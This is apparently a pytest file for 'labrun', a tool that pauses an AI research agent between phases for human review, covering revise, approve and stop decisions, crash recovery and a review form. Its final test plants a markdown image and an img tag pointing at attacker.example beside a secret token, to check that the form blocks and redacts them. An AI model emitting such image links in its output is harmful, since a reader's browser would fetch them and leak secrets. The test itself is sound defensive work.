"""Review by a person between phases, from the command line (`labrun review`).

The real engine, the real `anthropic` SDK and `labrun` processes against the fake Messages
API: what reaches the model before, during and after a review is read from the requests
the fake server received. Kills at each step of a review use the scripted agent's engines
(`forker`): each decision is applied once, never lost or repeated.
"""

from __future__ import annotations

import json
import os
import re
import signal
import time
from pathlib import Path

import pytest

from auto_responder import IDEA, AutoResearcher, phase_and_turn
from fake_messages_api import FakeMessagesAPI
from support import DEMO_IDEA, labrun

from labrun.journal import Conversation, UserRecord
from labrun.review import os_user

REVISION = "Add a second noise level, sigma 2.0, to the plan."
COMMENT = "Report the slope with a bootstrap interval."


def state(ws: Path) -> dict:
    return json.loads((ws / ".labrun/state.json").read_text())


def one_line_refusal(result, *needles: str) -> None:
    assert result.returncode == 2, result.stdout + result.stderr
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and "Traceback" not in result.stderr, result.stderr
    for needle in needles:
        assert needle in lines[0], (needle, lines[0])


@pytest.fixture
def fake_api(monkeypatch, prefect_api):
    for name in ("ANTHROPIC_AUTH_TOKEN", "LABRUN_MODEL", "LABRUN_PRICES", "LABRUN_CONTEXT_MANAGEMENT"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("ANTHROPIC_API_KEY", "test-key")
    with FakeMessagesAPI(default=AutoResearcher(), cache_accounting=True) as api:
        monkeypatch.setenv("ANTHROPIC_BASE_URL", api.url)
        yield api


def test_a_reviewed_plan_is_revised_then_approved_and_its_comment_reaches_every_later_phase(tmp_path, fake_api):
    idea, ws = tmp_path / "idea.yaml", tmp_path / "ws"
    idea.write_text(IDEA)
    walls = []

    def timed(*args: str):
        start = time.monotonic()
        result = labrun(*args)
        walls.append(time.monotonic() - start)
        return result

    first = timed("run", str(idea), "--workspace", str(ws), "--agent", "anthropic", "--review-after", "planning")
    assert first.returncode == 3, first.stdout + first.stderr
    assert "Phase planning awaits your review. It wrote: planning.md." in first.stdout
    assert f"review {ws} --approve" in first.stdout
    assert {phase_and_turn(r["body"])[0] for r in fake_api.requests} == {"planning"}  # nothing after it
    report = json.loads(labrun("status", str(ws), "--json").stdout)
    assert report["session"]["awaiting_review"]["phase"] == "planning"
    assert report["session"]["awaiting_review"]["outputs"] == ["planning.md"]
    assert report["session"]["next_action"].startswith(f"review phase planning: `labrun review {ws}`")
    assert re.search(r"Awaiting review: phase planning since .*; it wrote planning.md", (ws / "STATE.md").read_text())

    asked = len(fake_api.requests)
    shown = labrun("review", str(ws))
    assert shown.returncode == 0 and "planning.md" in shown.stdout and "R1:" in shown.stdout, shown.stdout
    assert len(fake_api.requests) == asked  # showing it asks nothing

    time.sleep(3)  # a review takes a person's time: the session clock must not count it
    asked = len(fake_api.requests)
    revised = timed("review", str(ws), "--revise", REVISION)
    assert revised.returncode == 3, revised.stdout + revised.stderr
    after = [r["body"] for r in fake_api.requests[asked:]]
    assert [phase_and_turn(b) for b in after] == [("planning", 3)]  # the same conversation, one turn on
    last_user = after[0]["messages"][-1]
    assert last_user["role"] == "user" and REVISION in json.dumps(last_user["content"])
    before = fake_api.requests[asked - 1]["body"]["messages"]
    assert len(after[0]["messages"]) == len(before) + 2  # its last reply, then the revision
    assert after[0]["messages"][-2]["role"] == "assistant"

    time.sleep(3)
    asked = len(fake_api.requests)
    approved = timed("review", str(ws), "--approve", "--comment", COMMENT)
    assert approved.returncode == 0, approved.stdout + approved.stderr
    later = [r["body"] for r in fake_api.requests[asked:]]
    phases = [phase_and_turn(b)[0] for b in later]
    assert "planning" not in phases  # no finished phase is asked again
    assert set(phases) == {"setup", "implementation", "experiments", "analysis", "documentation"}
    for body in later:
        system = body["system"] if isinstance(body["system"], str) else "".join(b["text"] for b in body["system"])
        assert COMMENT in system, phase_and_turn(body)
    for body in [r["body"] for r in fake_api.requests[:asked]]:
        assert COMMENT not in json.dumps(body)

    saved = state(ws)
    assert [(r["phase"], r["round"], r["decision"], r["reviewer"], r["applied"]) for r in saved["reviews"]] == [
        ("planning", 1, "revise", os_user(), True), ("planning", 2, "approve", os_user(), True)]
    worklog = "\n".join(saved["worklog"])
    assert f"review of planning (round 1): revise by {os_user()}: {REVISION}" in worklog
    assert f"review of planning (round 2): approve by {os_user()}: {COMMENT}" in worklog
    assert saved["phases"]["planning"]["runs"] == 2 and all(
        saved["phases"][k]["runs"] == 1 for k in saved["phases"] if k != "planning")
    assert saved["elapsed_s"] <= sum(walls)  # the six seconds of review are not in it


def test_bad_review_input_is_refused_in_one_line_before_anything_is_written(tmp_path, prefect_api, cli):
    ws = tmp_path / "ws"
    one_line_refusal(labrun("run", str(DEMO_IDEA), "--workspace", str(ws), "--agent", "scripted",
                            "--review-after", "planing"), "--review-after", "did you mean 'planning'")
    assert not ws.exists()
    one_line_refusal(labrun("run", str(DEMO_IDEA), "--workspace", str(ws), "--agent", "scripted",
                            "--review-after", "paper"), "paper")  # a phase this session does not have
    assert not ws.exists()
    finished = cli("run", str(DEMO_IDEA), "--workspace", str(ws), "--agent", "scripted")
    assert finished.returncode == 0, finished.stderr
    one_line_refusal(labrun("review", str(ws), "--approve"), "no phase awaits review")
    one_line_refusal(labrun("review", str(ws), "--approve", "--stop"), "give one decision")


@pytest.mark.parametrize("where", ["review-decided", "review-applied"])
def test_a_review_killed_at_each_step_is_applied_once(tmp_path, prefect_api, forker, cli, where):
    ws = tmp_path / "ws"
    first = cli("run", str(DEMO_IDEA), "--workspace", str(ws), "--agent", "scripted", "--review-after", "planning")
    assert first.returncode == 3, first.stderr
    killed = forker.run(["review", str(ws), "--revise", REVISION], env={"LABRUN_CRASH_AT": f"{where}:1"})
    assert killed.returncode == -signal.SIGKILL, killed.stderr
    review = state(ws)["reviews"][0]
    assert review["decision"] == "revise" and review["applied"] == (where == "review-applied")

    if where == "review-decided":  # a second decision is not taken: the first one goes on
        again = cli("review", str(ws), "--approve")
        assert "decided already (revise" in again.stdout
    else:  # applied: the phase is being revised, and a resume goes on with it
        again = cli("resume", str(ws))
    assert again.returncode == 3, again.stderr
    convo = Conversation.latest(ws / ".labrun/phases/planning")
    assert sum(REVISION in r.model_dump_json() for r in convo.of(UserRecord)) == 1
    saved = state(ws)
    assert [(r["round"], r["decision"], r["applied"]) for r in saved["reviews"]] == [(1, "revise", True), (2, None, False)]
    assert saved["phases"]["planning"]["runs"] == 2 and saved["phases"]["setup"]["status"] == "pending"

    done = cli("review", str(ws), "--approve")
    assert done.returncode == 0, done.stderr
    assert state(ws)["phases"]["planning"]["runs"] == 2


def test_a_stop_ends_the_session_and_a_rerun_note_reaches_the_rerun_phases(tmp_path, prefect_api, cli):
    ws = tmp_path / "ws"
    assert cli("run", str(DEMO_IDEA), "--workspace", str(ws), "--agent", "scripted",
               "--review-after", "analysis").returncode == 3
    stopped = cli("review", str(ws), "--stop")
    assert stopped.returncode == 4, stopped.stderr
    assert f"{os_user()} stopped the session after phase analysis" in stopped.stdout
    before = (ws / ".labrun/state.json").read_bytes()
    again = cli("resume", str(ws))
    assert again.returncode == 4 and "labrun rerun" in again.stdout
    assert (ws / ".labrun/state.json").read_bytes() == before  # a stopped session's runs write nothing

    note = "Try the median instead of the mean."
    rerun = cli("rerun", str(ws), "--from", "analysis", "--note", note)
    assert rerun.returncode == 3, rerun.stderr  # the new branch's analysis is reviewed too
    assert cli("review", str(ws), "--approve").returncode == 0
    for phase, expected in (("analysis", True), ("documentation", True), ("experiments", False)):
        system = Conversation.latest(ws / f".labrun/phases/{phase}").system
        assert (note in system.text) == expected, phase


def test_the_ideas_metadata_names_the_phases_to_review(tmp_path, prefect_api, cli):
    idea = tmp_path / "idea.yaml"
    idea.write_text(DEMO_IDEA.read_text().replace("  metadata:\n", "  metadata:\n    review_after: setup\n", 1))
    assert "review_after" in idea.read_text()
    ws = tmp_path / "ws"
    result = cli("run", str(idea), "--workspace", str(ws), "--agent", "scripted")
    assert result.returncode == 3 and state(ws)["review_after"] == ["setup"], result.stderr
    assert state(ws)["reviews"][0]["phase"] == "setup"
    assert os.path.exists(ws / "planning.md") and not (ws / "src/experiment.py").exists()


def test_the_resume_form_shows_the_plan_cut_with_the_whole_one_click_away(tmp_path, prefect_api, monkeypatch):
    """What the Prefect UI's Resume form says (its Markdown): the review's summary, then the
    plan's own text, cut at a line's end, with a link to the artifact that holds the whole."""
    from prefect.client.orchestration import get_client
    from prefect.client.schemas.filters import (ArtifactCollectionFilter, ArtifactCollectionFilterKey, ArtifactFilter,
                                                ArtifactFilterId)

    from labrun.flows import review as form
    from labrun.state import load_state
    from labrun.workspace import Workspace

    ws = tmp_path / "ws"
    assert labrun("run", str(DEMO_IDEA), "--workspace", str(ws), "--agent", "scripted",
                  "--review-after", "planning").returncode == 3
    saved = load_state(Workspace(ws))[0]
    plan = (ws / "planning.md").read_text()
    monkeypatch.setattr(form, "FORM_CHARS", len(plan) // 2)
    text = form.form_description(saved, ws, saved.reviews[-1])

    assert text.startswith("## Phase planning awaits review") and "**Run list:**" in text
    shown = text.split("\n---\n", 1)[1]
    assert shown.startswith("\n## `planning.md`\n\n" + plan[:200])
    assert plan.strip() not in shown  # cut, at a line's end
    cut = re.search(r"\*\*(\d+) more lines:\*\* the whole text is \[the artifact (\S+)\]\((\S+)/artifacts/artifact/(\S+)\)", shown)
    assert cut, shown[-500:]
    assert int(cut[1]) >= plan.count("\n") // 3 and cut[2].endswith(f"{saved.session_id}-review")
    with get_client(sync_client=True) as client:
        whole = client.read_artifacts(artifact_filter=ArtifactFilter(id=ArtifactFilterId(any_=[cut[4]])))[0].data
    assert whole == f"## `planning.md`\n\n{plan.strip()}"

    monkeypatch.setattr(form, "FORM_CHARS", 100_000)
    assert "more lines" not in form.form_description(saved, ws, saved.reviews[-1])

    # What the agent wrote may hold an image whose URL carries a secret out (the reviewer's
    # browser would fetch it): neither the form nor the -review artifact shows one.
    monkeypatch.setenv("LAB_SERVICE_TOKEN", "tok-123456789-secret")
    (ws / "planning.md").write_text(plan + "\n![x](https://attacker.example/?d=1) <img src=//attacker.example/i>"
                                           " tok-123456789-secret\n")
    text = form.form_description(saved, ws, saved.reviews[-1])
    with get_client(sync_client=True) as client:  # outside a flow run each publish is a new version
        whole = client.read_latest_artifacts(artifact_filter=ArtifactCollectionFilter(
            key=ArtifactCollectionFilterKey(any_=[cut[2]])))[0].data
    for markdown in (text, whole):
        assert "*(image `https://attacker.example/?d=1`: not shown)* &lt;img" in markdown
        assert "tok-123456789-secret" not in markdown and "[REDACTED]" in markdown
